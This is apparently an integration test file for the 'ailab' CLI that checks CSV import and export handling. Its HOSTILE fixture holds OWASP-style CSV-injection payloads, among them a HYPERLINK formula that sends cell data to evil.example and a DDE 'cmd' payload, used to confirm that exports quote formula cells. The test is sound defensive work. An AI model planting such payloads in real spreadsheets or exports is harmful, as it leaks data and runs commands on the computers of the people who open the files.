import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startTestServer, type TestServer } from '@ailab/server/testing';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AilabSandbox, createSandbox } from './support/run-ailab';

let server: TestServer;
let sandbox: AilabSandbox;
let dir: string;

function file(name: string, content: string | Uint8Array): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

beforeAll(async () => {
  server = await startTestServer();
  sandbox = createSandbox(server.url);
  dir = mkdtempSync(join(tmpdir(), 'ailab-csv-files-'));
  const login = await sandbox.run(['auth', 'login', '--email', 'staff@example.com', '--password-stdin'], {
    input: 'demo-password-1\n',
  });
  expect(login.code, login.stderr).toBe(0);
});
afterAll(async () => {
  sandbox.dispose();
  rmSync(dir, { recursive: true, force: true });
  await server.close();
});

/** Names a spreadsheet would run as formulas (OWASP's CSV injection examples). */
const HOSTILE = [
  { email: 'inj.eq@example.org', first: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', last: 'Eq' },
  { email: 'inj.plus@example.org', first: '+SUM(1+1)', last: 'Plus' },
  { email: 'inj.minus@example.org', first: "-2+3+cmd|' /C calc'!A0", last: 'Minus' },
  { email: 'inj.at@example.org', first: '@SUM(1+1)', last: 'At' },
  { email: 'inj.last@example.org', first: 'Lia', last: '=1+1' },
];

/** The cells of CSV text, parsed back by the same parser a person's spreadsheet import would use. */
function cells(text: string): string[][] {
  return parse(text, { relax_column_count: true }) as string[][];
}

describe('CSV exports neutralise formula cells (real process, real server)', () => {
  it('user export and course progress --csv prefix every formula-like cell with a quote', async () => {
    const rows = HOSTILE.map((p) =>
      [p.email, p.first, p.last, '1 8'].map((v) => `"${v.replaceAll('"', '""')}"`).join(','),
    );
    const csv = file('hostile.csv', ['email,first name,last name,roles', ...rows].join('\n'));
    const imported = await sandbox.run(['user', 'import', csv, '--yes']);
    expect(imported.code, imported.stderr).toBe(0);

    const exported = await sandbox.run(['user', 'export', '--search', 'inj.']);
    expect(exported.code, exported.stderr).toBe(0);
    const table = cells(exported.stdout);
    expect(table).toHaveLength(HOSTILE.length + 1);
    for (const person of HOSTILE) {
      const row = table.find((cellsOfRow) => cellsOfRow[0] === person.email);
      const expectCell = (value: string) => (/^[=+\-@]/.test(value) ? `'${value}` : value);
      expect(row?.slice(1, 3)).toEqual([expectCell(person.first), expectCell(person.last)]);
    }
    // No cell of the whole file starts like a formula.
    expect(table.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const listed = await sandbox.run(['course', 'list', '--search', 'responsible', '--json']);
    const courseId: string = JSON.parse(listed.stdout).items[0].id;
    const emails = file('inj-emails.csv', HOSTILE.map((p) => p.email).join('\n'));
    const enrolled = await sandbox.run(['course', 'enrol', courseId, '--users', emails]);
    expect(enrolled.code, enrolled.stderr).toBe(0);
    const progress = await sandbox.run(['course', 'progress', courseId, '--csv']);
    expect(progress.code, progress.stderr).toBe(0);
    const report = cells(progress.stdout);
    const names = report.filter((row) => row[0]?.startsWith('inj.')).map((row) => row[1]);
    expect(names).toHaveLength(HOSTILE.length);
    expect(names.filter((name) => /^[=+\-@\t\r]/.test(name ?? ''))).toEqual([]);
    expect(names).toContain(`'${HOSTILE[0]?.first} ${HOSTILE[0]?.last}`);
  });
});

describe('CSV files read for imports (real process, real server)', () => {
  it('refuses a Windows-1252 file, naming the line, the encoding and how to convert, and imports nothing', async () => {
    const latin1 = Buffer.from('email,first name\nenc.jose@example.org,Jos\xe9\n', 'latin1');
    const result = await sandbox.run(['user', 'import', file('latin1.csv', latin1), '--yes']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('Line 2 holds bytes that are not UTF-8');
    expect(result.stderr).toContain('iconv -f WINDOWS-1252 -t UTF-8');
    const listed = await sandbox.run(['user', 'list', '--search', 'enc.', '--json']);
    expect(JSON.parse(listed.stdout).total).toBe(0);
  });

  it('refuses a UTF-16 file by its byte-order mark', async () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('slug,title\n', 'utf16le')]);
    const result = await sandbox.run(['event', 'import', file('utf16.csv', utf16)]);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('UTF-16LE, not UTF-8');
  });

  it('reads semicolon- and tab-separated files, and says what it found otherwise', async () => {
    const semicolon = file('semi.csv', 'email;nombre;apellido\nsemi.ana@example.org;Ana;Ruiz\n');
    const dry = await sandbox.run(['user', 'import', semicolon, '--dry-run', '--json']);
    expect(dry.code, dry.stderr).toBe(0);
    expect(JSON.parse(dry.stdout).summary).toEqual({ created: 1, updated: 0, unchanged: 0, failed: 0 });
    const tab = file('tab.csv', 'email\tfirst name\ntab.ana@example.org\tAna\n');
    const tabbed = await sandbox.run(['user', 'import', tab, '--dry-run', '--json']);
    expect(JSON.parse(tabbed.stdout).summary.created).toBe(1);
    const piped = await sandbox.run([
      'user',
      'import',
      file('pipe.csv', 'mail|name\na@b.org|A\n'),
      '--dry-run',
    ]);
    expect(piped.code).toBe(2);
    expect(piped.stderr).toContain('lacks required columns: email');
    expect(piped.stderr).toContain('its header row has: mail|name');
  });

  it('fails the second row of a key already in the file, naming the first line', async () => {
    const twice = file(
      'twice.csv',
      'email,first name\ndup.ana@example.org,Ana\ndup.bo@example.org,Bo\nDUP.ANA@example.org,Anita\n',
    );
    const result = await sandbox.run(['user', 'import', twice, '--yes', '--json']);
    expect(result.code).toBe(1);
    const answer = JSON.parse(result.stdout);
    expect(answer.summary).toEqual({ created: 2, updated: 0, unchanged: 0, failed: 1 });
    expect(answer.rows[2]).toMatchObject({ line: 4, key: 'dup.ana@example.org', outcome: 'failed' });
    expect(answer.rows[2].reason.message).toContain('already on line 2');
    // A re-run changes nothing: the second row no longer flips the first.
    const again = await sandbox.run(['user', 'import', twice, '--yes', '--json']);
    expect(JSON.parse(again.stdout).summary).toEqual({ created: 0, updated: 0, unchanged: 2, failed: 1 });
  });

  it('fails a row whose name holds a line break or a control character, storing nothing of it (issue 24 item 2)', async () => {
    const broken = file(
      'breaks.csv',
      'email,first name\r\nbreak.ana@example.org,"Ana\r\nMaría"\r\nbell.bo@example.org,Bo\u0007\r\nfine.cy@example.org,Cy\r\n',
    );
    const result = await sandbox.run(['user', 'import', broken, '--yes', '--json']);
    expect(result.code).toBe(1);
    const answer = JSON.parse(result.stdout);
    expect(answer.summary).toMatchObject({ created: 1, failed: 2 });
    expect(answer.rows.filter((row: { outcome: string }) => row.outcome === 'failed')).toHaveLength(2);
    const listed = await sandbox.run(['user', 'list', '--search', 'break.ana', '--json']);
    expect(JSON.parse(listed.stdout).total).toBe(0);
  });

  it('refuses a file over the one size cap before reading it', async () => {
    const big = join(dir, 'big.csv');
    writeFileSync(big, '');
    const { truncateSync } = await import('node:fs');
    truncateSync(big, 50 * 1024 * 1024 + 1);
    const result = await sandbox.run(['course', 'enrol', 'x', '--users', big]);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('is larger than 50 MB');
  });
});

describe('destructive commands off a terminal (real process, real server)', () => {
  it('refuse without --yes, saying what would happen and naming the flag, and change nothing', async () => {
    for (const args of [
      ['event', 'cancel', 'no-such-event'],
      ['event', 'delete', 'no-such-event'],
      ['news', 'sources', 'remove', 'No such source'],
    ]) {
      const result = await sandbox.run(args);
      expect(result.code, args.join(' ')).toBe(2);
      expect(result.stderr).toContain('Pass --yes to go ahead without a terminal.');
    }
  });
});

describe('event list on the shared list helpers (real process, real server)', () => {
  it('takes -L and --all and prints the page object with --json', async () => {
    const all = await sandbox.run(['event', 'list', '--all', '--json']);
    expect(all.code, all.stderr).toBe(0);
    const everything = JSON.parse(all.stdout);
    expect(everything).toEqual({
      items: expect.any(Array),
      next_cursor: null,
      total: everything.items.length,
    });
    expect(everything.total).toBeGreaterThan(1);
    const one = JSON.parse((await sandbox.run(['event', 'list', '-L', '1', '--json'])).stdout);
    expect(one.items).toHaveLength(1);
    expect(one.total).toBe(everything.total);
    expect(one.next_cursor).toEqual(expect.any(String));
    const both = await sandbox.run(['event', 'list', '-L', '1', '--all']);
    expect(both.code).toBe(2);
  });
});
